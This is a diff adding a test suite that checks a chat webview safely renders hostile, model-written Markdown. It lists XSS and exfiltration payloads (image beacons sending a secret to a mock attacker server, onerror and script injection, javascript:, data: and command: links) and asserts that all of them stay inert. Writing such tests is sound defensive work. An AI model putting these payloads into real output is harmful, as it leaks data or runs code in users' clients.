@@ -1,0 +1,140 @@
+// Model output is attacker-controlled. These payloads must load nothing, run nothing, and offer no link
+// but http(s)/mailto; a remote image becomes a placeholder that opens its URL outside on request.
+import { strict as assert } from 'node:assert';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { chat, exchange, snapshot } from './builders';
+import { eventually, useWebviewPage } from './pageSession';
+
+function payloads(attacker: string): string[] {
+  return [
+    `![leak](${attacker}/leak?d=secret)`,
+    `![ref][img]\n\n[img]: ${attacker}/ref-image`,
+    `<img src="${attacker}/raw-img" onerror="window.__pwned=1">`,
+    `<img src=x onerror=alert(1)>`,
+    `<script>window.__pwned=2</script>`,
+    `<iframe src="${attacker}/frame"></iframe>`,
+    `<a href="javascript:window.__pwned=3">html link</a>`,
+    `[js link](javascript:window.__pwned=4)`,
+    `[cmd link](command:workbench.action.terminal.new)`,
+    `[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD01PC9zY3JpcHQ+)`,
+    `[vb](vbscript:msgbox(1))`,
+    `<command:workbench.action.terminal.new>`,
+    `<svg onload="window.__pwned=6"><image href="${attacker}/svg-image"/></svg>`,
+    `<style>body{background:url(${attacker}/css)}</style>`,
+    `<video poster="${attacker}/poster"></video>`,
+    `<picture><source srcset="${attacker}/srcset"><img src="${attacker}/pic"></picture>`,
+    `<form id="app"><input name="attributes"></form>`,
+    `[![nested](${attacker}/nested-img)](https://example.com/ok)`,
+    `<${attacker}/autolink>`,
+  ];
+}
+
+describe('webview: hostile Markdown', () => {
+  // Tall enough that every answer of the corpus is rendered (answers far off screen render lazily).
+  const view = useWebviewPage({ viewport: { width: 480, height: 3000 } });
+  let attacker: http.Server;
+  let origin = '';
+  const hits: string[] = [];
+
+  before(async () => {
+    attacker = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('');
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    origin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+  });
+  after(() => new Promise<void>((resolve) => attacker.close(() => resolve())));
+
+  async function inspect(): Promise<{ pwned: unknown; remoteImages: string[]; badLinks: string[]; rawTags: number }> {
+    return view().page.evaluate(() => {
+      const g = globalThis as unknown as { __pwned?: unknown; document: { querySelectorAll(s: string): ArrayLike<{ getAttribute(n: string): string | null }> } };
+      // No named helpers in here: the test transpiler would wrap them in a helper the page lacks.
+      const images = Array.from(g.document.querySelectorAll('img'));
+      const links = Array.from(g.document.querySelectorAll('a[href]'));
+      return {
+        pwned: g.__pwned,
+        remoteImages: images.map((i) => i.getAttribute('src') ?? '').filter((src) => !src.startsWith('data:image/')),
+        badLinks: links.map((a) => a.getAttribute('href') ?? '').filter((h) => !/^(https?:|mailto:)/i.test(h)),
+        rawTags: g.document.querySelectorAll('.markdown script, .markdown iframe, .markdown svg, .markdown style, .markdown video, .markdown picture, .markdown form, .markdown input').length,
+      };
+    });
+  }
+
+  it('streamed and re-rendered from a snapshot: no request leaves, nothing runs, no unsafe link', async () => {
+    const all = payloads(origin);
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([]) }) });
+    for (const [i, payload] of all.entries()) {
+      const id = `ex-${i}`;
+      await view().post({ type: 'turn/start', exchange: exchange(`payload ${i}`, { status: 'waiting' }, id) });
+      const half = Math.ceil(payload.length / 2);
+      await view().post({ type: 'turn/chunk', exchangeId: id, seq: 0, text: payload.slice(0, half) });
+      await view().nextFrame();
+      await view().post({ type: 'turn/chunk', exchangeId: id, seq: 1, text: payload.slice(half) });
+      await view().post({ type: 'turn/update', seq: 2, exchange: exchange(`payload ${i}`, { markdown: payload }, id) });
+    }
+    await view().nextFrame();
+    const streamed = await inspect();
+    // The history re-rendered whole, as after a reload.
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat(all.map((p, i) => exchange(`payload ${i}`, { markdown: p }, `ex-${i}`))) }) });
+    await view().nextFrame();
+    await eventually(() => view().page.locator('.exchange.rendered').count(), (n) => n === all.length, 'every answer rendered');
+    const reopened = await inspect();
+    // Give any stray request time to arrive before counting.
+    await new Promise((r) => setTimeout(r, 300));
+    for (const result of [streamed, reopened]) {
+      assert.equal(result.pwned, undefined);
+      assert.deepEqual(result.remoteImages, []);
+      assert.deepEqual(result.badLinks, []);
+      assert.equal(result.rawTags, 0);
+    }
+    assert.deepEqual(hits, []);
+    // Raw HTML shows as text, not as markup.
+    assert.match(await view().page.locator('[data-exchange-id="ex-4"]').innerText(), /<script>window\.__pwned=2<\/script>/);
+  });
+
+  it('a remote image is a placeholder that shows its URL and opens it outside on click', async () => {
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `![chart](${origin}/chart.png)` }, 'ex-1')]) }) });
+    const placeholder = view().page.getByRole('button', { name: /Image not loaded: chart/ });
+    await placeholder.waitFor();
+    assert.match(await placeholder.innerText(), new RegExp(`${origin}/chart\\.png`));
+    await placeholder.click();
+    assert.deepEqual(await view().waitForSent('link/open'), { type: 'link/open', href: `${origin}/chart.png` });
+    assert.deepEqual(hits, []);
+  });
+
+  it('links open through the host and never navigate the webview; unsafe ones are inert', async () => {
+    const markdown = '[docs](https://example.com/docs) [mail](mailto:a@example.com) [js](javascript:alert(1)) [cmd](command:evil)';
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown }, 'ex-1')]) }) });
+    const page = view().page;
+    const url = page.url();
+    await page.getByRole('link', { name: 'docs' }).click();
+    await page.getByRole('link', { name: 'mail' }).click();
+    // Neither is a link: javascript: stays literal text, command: loses its target.
+    assert.equal(await page.getByRole('link', { name: 'js' }).count(), 0);
+    assert.equal(await page.getByRole('link', { name: 'cmd' }).count(), 0);
+    await page.getByText('[js](javascript:alert(1))').click();
+    await page.locator('.markdown a', { hasText: 'cmd' }).click();
+    await eventually(async () => view().sent().filter((m) => m.type === 'link/open').length, (n) => n >= 2, 'two links opened');
+    await view().nextFrame();
+    const opened = view().sent().flatMap((m) => (m.type === 'link/open' ? [m.href] : []));
+    assert.deepEqual(opened, ['https://example.com/docs', 'mailto:a@example.com']);
+    assert.equal(page.url(), url);
+  });
+
+  it('a data: image is shown', async () => {
+    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `![dot](${png})` }, 'ex-1')]) }) });
+    await view().page.getByRole('img', { name: 'dot' }).waitFor();
+  });
+
+  it('a 1 MB line without spaces renders (not wrapped, it scrolls inside its block)', async () => {
+    const line = `${'A'.repeat(500_000)}END ![x](${origin}/big) ${'B'.repeat(500_000)}`;
+    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: line }, 'ex-1')]) }) });
+    const block = view().page.locator('.md-long-words');
+    await block.waitFor();
+    assert.match(await view().page.getByRole('button', { name: /Image not loaded: x/ }).innerText(), /\/big/);
+    assert.deepEqual(hits, []);
+  });
+});
